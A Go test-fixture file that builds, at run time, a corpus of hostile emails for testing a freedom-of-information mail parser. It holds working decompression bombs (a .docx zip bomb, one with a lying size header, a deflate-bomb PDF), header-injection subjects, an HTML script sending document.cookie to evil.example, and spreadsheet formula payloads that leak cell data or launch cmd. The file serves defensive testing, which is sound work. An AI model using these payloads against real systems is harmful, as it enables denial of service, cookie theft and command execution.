package mailtest

// The hostile corpus: messages built to hurt a mail parser (zip bombs,
// looping PDFs, huge and deeply nested MIME, broken charsets, header
// injection, script, binary junk, nothing at all), built at run time so that
// nothing large is committed. worker/hostile_test.go checks what foiwatch
// makes of each; cmd/foiwatch/rss_test.go measures the peak RSS of `sync`
// over them.

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand"
	"strconv"
	"strings"
)

// HostileMessage is one message of the corpus.
type HostileMessage struct {
	Name string
	Raw  []byte
	// Failed, when set, is what the FAILED entry's error must say; else the
	// message must be stored.
	Failed string
	// Warning, when set, must appear in one of the stored reply's warnings.
	Warning string
}

// HostileNotEmail is the name of the message that is not an email at all
// (random bytes behind an ELF header).
const HostileNotEmail = "not-email-binary"

// Hostile builds the corpus (about 75 MB; the largest message, a 50 MB CSV
// in base64, is 68 MiB). The messages are from the Wessex office of the
// demo campaign and threaded on its request.
func Hostile() []HostileMessage {
	bombComp, bombCRC, bombSize := deflateRepeat(`<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`, 'A', 256<<20)
	rng := rand.New(rand.NewSource(7))
	binary := make([]byte, 256<<10)
	rng.Read(binary)
	copy(binary, "\x7fELF\x02\x01\x01\x00")
	return []HostileMessage{
		{Name: "zip-bomb-docx", Raw: withAttachments(hostileHead("zip-bomb", "RE: FOI response"),
			attachment{"application/vnd.openxmlformats-officedocument.wordprocessingml.document", "response.docx", zipBombDOCX(bombComp, bombCRC, bombSize, false)}),
			Warning: "response.docx"},
		{Name: "zip-bomb-docx-lying-header", Raw: withAttachments(hostileHead("zip-bomb-lie", "RE: FOI response"),
			attachment{"application/octet-stream", "letter.docx", zipBombDOCX(bombComp, bombCRC, bombSize, true)}),
			Warning: "letter.docx"},
		{Name: "pdf-page-tree-loop", Raw: withAttachments(hostileHead("pdf-loop", "RE: FOI response"),
			attachment{"application/pdf", "loop.pdf", loopPDF()})},
		{Name: "pdf-huge-claims", Raw: withAttachments(hostileHead("pdf-huge", "RE: FOI response"),
			attachment{"application/pdf", "huge.pdf", hugePDF()})},
		{Name: "50MB-attachment", Raw: withAttachments(hostileHead("50mb", "RE: FOI response: data"),
			attachment{"text/csv", "referrals.csv", bigText(50 << 20)}),
			Warning: "larger than"},
		{Name: "10000-parts", Raw: manyParts(hostileHead("many-parts", "RE: FOI response in parts"), 10000), Warning: "more than 1000 parts"},
		{Name: "multipart-nested-100", Raw: deepMultipart(hostileHead("deep", "RE: FOI deep"), 100), Warning: "nested deeper"},
		{Name: "rfc822-nested-100", Raw: deepForward(hostileHead("deep-fwd", "Fwd: FOI deep"), 100), Warning: "nested deeper"},
		{Name: "charset-x-unknown", Raw: []byte(hostileHead("charset-unknown", "=?x-unknown?Q?Caf=E9_r=E9ponse?=") +
			"Content-Type: text/plain; charset=\"x-unknown\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
			"Dear Requester,\r\n1. Caf\xe9 programme.\r\n2. 12.\r\n"),
			Warning: "character set"},
		{Name: "charset-invalid-bytes", Raw: withInvalidBytes(hostileHead("charset-bytes", "RE: FOI \xff\xfe r\xe9ponse"))},
		{Name: "subject-bare-cr", Raw: []byte(hostileHead("bare-cr", "RE: FOI\rBcc: attacker@evil.example") +
			"Content-Type: text/plain\r\n\r\nSee subject.\r\n")},
		{Name: "subject-encoded-crlf", Raw: []byte(hostileHead("encoded-crlf", "=?utf-8?B?"+
			base64.StdEncoding.EncodeToString([]byte("RE: FOI\r\nBcc: attacker@evil.example\r\nX-Injected: yes"))+"?=") +
			"Content-Type: text/plain\r\n\r\nSee subject.\r\n")},
		{Name: "html-script", Raw: []byte(hostileHead("script", "<script>alert('subject')</script> RE: FOI") +
			"Content-Type: text/html; charset=utf-8\r\n\r\n" +
			"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>" +
			"<style>p{color:red}</style></head><body><p>Dear Requester</p>" +
			"<p>1. <script>alert('answer')</script>Programme &lt;script&gt;alert(1)&lt;/script&gt;</p>" +
			"<p>2. 12.</p><img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\">our website</a></body></html>\r\n")},
		{Name: "formula-answers", Raw: []byte(strings.Replace(hostileHead("formula", "RE: Freedom of Information request [WPFCC/FOI/2024/099]"),
			"Mon, 17 Jun 2024", "Tue, 18 Jun 2024", 1) + // the latest reply: its answers fill the row
			"Content-Type: text/plain; charset=utf-8\r\n\r\nDear Requester,\r\n\r\nI can advise the following:\r\n\r\n" +
			"1. =HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for the full response\")\r\n" +
			"2. 12.\r\n" +
			"8. @SUM(1+1)*cmd|' /C calc'!A0, +cmd|' /C calc'!A0, -2+3\r\n\r\nYours sincerely\r\nWessex FOI\r\n")},
		{Name: HostileNotEmail, Raw: binary, Failed: "not an email"},
		{Name: "empty", Raw: []byte{}, Failed: "not an email"},
	}
}

// hostileHead is the top of a hostile message: from the Wessex office and
// threaded on its request, so that it is matched and shown on the status
// page (the demo samples do not depend on Wessex's state).
func hostileHead(name, subject string) string {
	return "From: Wessex FOI <enquiries@wessex-pfcc.gov.uk>\r\n" +
		"To: researcher@requests.example.org\r\n" +
		"Subject: " + subject + "\r\n" +
		"Date: Mon, 17 Jun 2024 10:00:00 +0100\r\n" +
		"Message-ID: <hostile-" + name + "@wessex-pfcc.gov.uk>\r\n" +
		"In-Reply-To: <dapp-demo-wessex@requests.example.org>\r\n" +
		"MIME-Version: 1.0\r\n"
}

type attachment struct {
	ctype, filename string
	data            []byte
}

// withAttachments is a multipart/mixed message: a short text, then each
// attachment in base64.
func withAttachments(head string, atts ...attachment) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"hostile-boundary\"\r\n\r\n")
	b.WriteString("--hostile-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find our response attached.\r\n")
	for _, a := range atts {
		fmt.Fprintf(&b, "--hostile-boundary\r\nContent-Type: %s; name=%q\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", a.ctype, a.filename, a.filename)
		enc := base64.StdEncoding.EncodeToString(a.data)
		for len(enc) > 76 {
			b.WriteString(enc[:76])
			b.WriteString("\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc)
		b.WriteString("\r\n")
	}
	b.WriteString("--hostile-boundary--\r\n")
	return b.Bytes()
}

// deflateRepeat deflates n bytes of fill after prefix and returns the
// compressed bytes, the CRC-32 and the size of what it inflates to.
func deflateRepeat(prefix string, fill byte, n int64) (comp []byte, crc uint32, size uint64) {
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		panic(err) // writing to a bytes.Buffer does not fail
	}
	h := crc32.NewIEEE()
	w := io.MultiWriter(fw, h)
	io.WriteString(w, prefix)
	chunk := bytes.Repeat([]byte{fill}, 1<<20)
	for written := int64(0); written < n; written += int64(len(chunk)) {
		w.Write(chunk)
	}
	if err := fw.Close(); err != nil {
		panic(err) // writing to a bytes.Buffer does not fail
	}
	return buf.Bytes(), h.Sum32(), uint64(len(prefix)) + uint64(n)
}

// zipBombDOCX is a .docx whose word/document.xml inflates to 256 MiB. With
// lie, the zip header claims 4 KiB, so only counting the inflated bytes
// catches it.
func zipBombDOCX(comp []byte, crc uint32, size uint64, lie bool) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("[Content_Types].xml")
	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)
	fh := &zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(comp)), UncompressedSize64: size}
	if lie {
		fh.UncompressedSize64 = 4096
	}
	rw, err := zw.CreateRaw(fh)
	if err != nil {
		panic(err) // writing to a bytes.Buffer does not fail
	}
	rw.Write(comp)
	if err := zw.Close(); err != nil {
		panic(err) // writing to a bytes.Buffer does not fail
	}
	return buf.Bytes()
}

// BuildPDF writes objs as objects 1..n with a correct xref table, and a
// trailer of the keys given ("/Size 3 /Root 1 0 R").
func BuildPDF(objs []string, trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n", trailer, xref)
	return b.Bytes()
}

// loopPDF has a page tree whose Pages nodes are each other's kids and
// parents.
func loopPDF() []byte {
	return BuildPDF([]string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /Parent 3 0 R >>",
		"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
		"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Loop page) Tj ET\nendstream",
	}, "/Size 6 /Root 1 0 R")
}

// hugePDF claims two billion objects and pages, a page 10^9 points wide,
// and a content stream of 99 GB that is in fact a 64 MiB deflate bomb.
func hugePDF() []byte {
	comp, _, _ := deflateRepeat("BT /F1 12 Tf 72 712 Td (huge) Tj ET\n", ' ', 64<<20)
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R >>",
	}
	pdf := BuildPDF(objs, "/Size 2147483647 /Root 1 0 R")
	// Object 4 (the stream) is appended after the table, so the xref is
	// wrong as well: the reader has to reconstruct it.
	var b bytes.Buffer
	b.Write(pdf[:bytes.LastIndex(pdf, []byte("xref"))])
	fmt.Fprintf(&b, "4 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\n")
	// A zlib stream: the 2-byte header, then the raw deflate data.
	b.Write([]byte{0x78, 0xda})
	b.Write(comp)
	b.WriteString("\nendstream\nendobj\n")
	b.Write(pdf[bytes.LastIndex(pdf, []byte("xref")):])
	return b.Bytes()
}

// bigText is n bytes of CSV-like text.
func bigText(n int) []byte {
	var b bytes.Buffer
	b.Grow(n + 64)
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "row %d,Borsetshire,%d,referrals counted in the quarter\n", i, i%97)
	}
	return b.Bytes()[:n]
}

func manyParts(head string, n int) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"many\"\r\n\r\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "--many\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPart %d of the response.\r\n", i)
	}
	b.WriteString("--many--\r\n")
	return b.Bytes()
}

func deepMultipart(head string, depth int) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"d0\"\r\n\r\n")
	for i := 0; i < depth; i++ {
		fmt.Fprintf(&b, "--d%d\r\nContent-Type: multipart/mixed; boundary=\"d%d\"\r\n\r\n", i, i+1)
	}
	b.WriteString("--d" + strconv.Itoa(depth) + "\r\nContent-Type: text/plain\r\n\r\nThe innermost part.\r\n")
	for i := depth; i >= 0; i-- {
		fmt.Fprintf(&b, "--d%d--\r\n", i)
	}
	return b.Bytes()
}

func deepForward(head string, depth int) []byte {
	inner := "From: someone@example.org\r\nSubject: innermost\r\nContent-Type: text/plain\r\n\r\nThe innermost forwarded message.\r\n"
	for i := 0; i < depth; i++ {
		inner = fmt.Sprintf("From: fwd%d@example.org\r\nSubject: Fwd %d\r\nContent-Type: message/rfc822\r\n\r\n%s", i, i, inner)
	}
	return []byte(head + "Content-Type: message/rfc822\r\n\r\n" + inner)
}

// withInvalidBytes is a message whose parts hold bytes their declared
// charsets do not allow.
func withInvalidBytes(head string) []byte {
	return []byte(head + "Content-Type: multipart/mixed; boundary=\"cs\"\r\n\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n1. Programme \xff\xfe\xc3\x28 name.\r\n2. 12.\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x1b$B\xff\xfe\x1b(B broken\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=shift_jis\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x81\x20\xa0\xfd broken\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x00\xd8odd\r\n" +
		"--cs--\r\n")
}
